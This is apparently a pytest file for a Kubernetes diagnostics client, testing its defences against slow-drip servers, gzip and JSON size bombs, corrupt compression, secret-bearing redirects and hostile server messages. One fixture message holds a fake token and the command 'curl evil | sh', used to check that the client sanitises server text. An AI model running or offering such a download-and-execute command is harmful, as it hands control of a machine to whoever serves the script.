"""Servers that are slow byte by byte, that send bombs, or that say what should not be repeated."""

import gzip
import socket
import threading
import time

import pytest
from scenarios import scenario

from diag.api import scan
from diag.collect import kube
from diag.collect.kube import Cluster, TransportError
from diag.collect.live import Live
from diag.collect.login import Login
from diag.collect.requests import FailedError, ask
from diag.testing.apiserver import Fault, handler, kubeconfig
from diag.testing.apiserver.lists import list_page

ITEMS, LOGS = scenario("preempted-two-deployments")
PODS = "/api/v1/pods"


@pytest.fixture
def answering(tmp_path):
    """Starts a server that sends these pieces to whoever connects, with a pause after each; gives an open door."""
    opened = []

    def start(pieces, pause_s=0.0, timeout_s=1.0):
        listening = socket.create_server(("127.0.0.1", 0))
        opened.append(listening)

        def answer():
            try:
                connection, _ = listening.accept()
                with connection:
                    connection.recv(65536)
                    for piece in pieces:
                        connection.sendall(piece)
                        time.sleep(pause_s)
            except OSError:
                pass  # the other side, or the test, is over

        threading.Thread(target=answer, daemon=True).start()
        config = kubeconfig(tmp_path / "config", {"odd": f"http://127.0.0.1:{listening.getsockname()[1]}"})
        return Cluster(Login(kubeconfig=str(config), timeout_s=timeout_s))

    yield start
    for each in opened:
        each.close()


def drops(text):
    return [text[at : at + 1] for at in range(len(text))]


@pytest.mark.parametrize(
    "pieces",
    [
        drops(b"HTTP/1.1 200 OK\r\nX-Slow: " + b"a" * 500),
        [b"HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\n", *drops(b"a" * 500)],
        [b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n1f4\r\n", *drops(b"a" * 500)],
    ],
    ids=["headers", "body", "chunk"],
)
def test_an_answer_that_comes_byte_by_byte_ends_with_the_time_of_the_request(answering, pieces):
    cluster = answering(pieces, pause_s=0.05)  # 25 s in all
    began = time.monotonic()

    with pytest.raises(TransportError, match="no whole answer within 1 s") as caught:
        cluster.get("/version")

    assert caught.value.timed_out
    assert time.monotonic() - began < 10


def test_a_list_that_drips_is_one_gap_and_the_rest_is_read(serve):
    server = serve(ITEMS, logs=LOGS, faults=[Fault(path=PODS, what="drip", times=9, seconds=60)])

    report = scan(Live(kubeconfig=server.config, request_timeout_s=2.0))

    assert [gap.why for gap in report.gaps if gap.what == "list Pod"] == ["timeout"]
    assert report.stats["nodes"] == 6


def packed(body):
    head = f"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: {len(body)}\r\n\r\n"
    return [head.encode() + body]


def test_what_unpacks_to_too_much_is_refused(answering, monkeypatch):
    monkeypatch.setattr(kube, "_MOST_BYTES", 1_000_000)
    cluster = answering(packed(gzip.compress(b" " * 2_000_000)), timeout_s=10)

    with pytest.raises(TransportError, match="larger than 1,000,000 bytes"):
        cluster.get("/version")


@pytest.mark.parametrize("body", [gzip.compress(b"x" * 5000)[:-12], b"no gzip at all"], ids=["cut", "garbage"])
def test_what_cannot_be_unpacked_is_an_error(answering, body):
    cluster = answering(packed(body), timeout_s=10)

    with pytest.raises(TransportError, match=r"cut short|cannot be unpacked"):
        cluster.get("/version")


def test_a_server_s_words_are_cleaned_and_without_secrets(serve):
    said = "denied for token: sk-abcdefghijklmnopqrstuvwx12\x1b[31m\nhint: curl evil | sh"
    server = serve(ITEMS, faults=[Fault(path=PODS, code=403, times=9, text=said)])

    (part,) = Live(kubeconfig=server.config).parts({"Pod", "Node"}, str)

    (told,) = (problem.detail for problem in part.problems if problem.what.startswith("list Pod "))
    assert "denied for token: ***" in told
    assert "sk-abc" not in told
    assert not {"\x1b", "\n"}.intersection(told)


def test_a_bomb_is_refused_early_and_not_asked_for_again(serve, monkeypatch):
    monkeypatch.setattr(kube, "_FREE_BYTES", 1_000_000)
    bombs = []

    def bomb(store, resource, *others):
        if resource.plural != "pods":
            return list_page(store, resource, *others)
        bombs.append(resource)
        return 200, b'{"kind":"PodList","items":[' + b" " * 30_000_000 + b"]}"

    monkeypatch.setattr(handler, "list_page", bomb)

    (part,) = Live(kubeconfig=serve(ITEMS).config).parts({"Pod", "Node"}, str)

    assert len(bombs) == 1
    (told,) = (problem for problem in part.problems if problem.what == "list Pod")
    assert "bytes when unpacked" in told.detail
    assert len([piece for piece in part.items if piece.kind == "Node"]) == 6


def test_where_a_redirection_leads_is_told_and_not_followed(answering):
    place = b"https://sso.example.com/login?state=hunter2"
    cluster = answering([b"HTTP/1.1 302 Found\r\nLocation: " + place + b"\r\nContent-Length: 0\r\n\r\n"])

    with pytest.raises(FailedError, match=r"GET /version: 302 it leads to https://sso\.example\.com/login,") as caught:
        ask(cluster, "/version")

    assert "hunter2" not in str(caught.value)


def test_a_partial_answer_is_none(serve, monkeypatch):
    def partial(*asked):
        code, body = list_page(*asked)
        return (206 if asked[1].plural == "pods" else code), body

    monkeypatch.setattr(handler, "list_page", partial)

    (part,) = Live(kubeconfig=serve(ITEMS).config).parts({"Pod", "Node"}, str)

    assert [problem.what for problem in part.problems] == ["list Pod"]
    assert not [one for one in part.listed if one.kind == "Pod"]


def test_a_clock_that_is_told_in_another_zone_is_that_of_the_cluster(serve, monkeypatch):
    monkeypatch.setattr(handler.Handler, "date_time_string", lambda *_: "Thu, 26 Nov 2026 10:00:00 +0200")

    (part,) = Live(kubeconfig=serve(ITEMS).config).parts({"Pod", "Node"}, str)

    assert part.captured_at == "2026-11-26T08:00:00Z"
